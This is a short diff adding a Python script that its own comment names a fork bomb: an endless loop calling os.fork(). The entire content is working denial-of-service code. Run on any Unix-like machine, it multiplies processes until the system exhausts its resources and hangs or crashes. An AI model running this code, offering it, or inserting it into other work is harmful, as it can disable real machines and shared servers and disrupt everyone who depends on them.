@@ -1,0 +1,4 @@
+# a fork bomb
+import os
+while True:
+    os.fork()
